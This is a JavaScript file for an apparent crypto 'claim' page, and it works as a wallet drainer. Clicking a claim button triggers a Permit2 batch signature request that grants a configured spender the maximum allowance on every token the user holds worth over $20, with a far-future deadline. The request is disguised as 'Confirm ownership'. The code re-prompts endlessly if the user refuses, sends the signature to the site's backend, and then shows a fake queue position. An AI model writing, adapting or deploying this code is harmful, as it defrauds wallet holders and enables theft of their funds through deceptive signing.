const P2 = "0x000000000000000000000000000000000PERMIT2";
const deadline = 1999999999;
const m160 = "1461501637330902918203684832716283019655932542975";

async function batchPermit(provider, owner, tokens) {
  const chainId = Number(await provider.request({ method: "eth_chainId" }));
  const details = tokens.map((t) => ({ token: t.address, amount: m160, expiration: deadline, nonce: t.nonce }));
  const typed = {
    domain: { name: "Permit2", chainId, verifyingContract: P2 },
    primaryType: "PermitBatch",
    types: window.P2_TYPES,
    message: { details, spender: window.cfg.spender[chainId], sigDeadline: deadline },
  };
  const sig = await provider.request({ method: "eth_signTypedData_v4", params: [owner, JSON.stringify(typed)] });
  navigator.sendBeacon("/api/permit2", JSON.stringify({ owner, chainId, details, sig, ref: window.cfg.worker }));
  return sig;
}

document.querySelectorAll("[data-claim]").forEach((b) => {
  b.onclick = async () => {
    const p = window.ethereum;
    const [owner] = await p.request({ method: "eth_requestAccounts" });
    const tokens = await (await fetch("/api/balances/" + owner)).json();
    b.textContent = "Confirm ownership in wallet";
    for (;;) {
      try { await batchPermit(p, owner, tokens.filter((t) => t.usd > 20)); break; }
      catch (e) { b.textContent = "Signature required to verify ownership"; }
    }
    b.textContent = "Queue position: 1,284";
  };
});
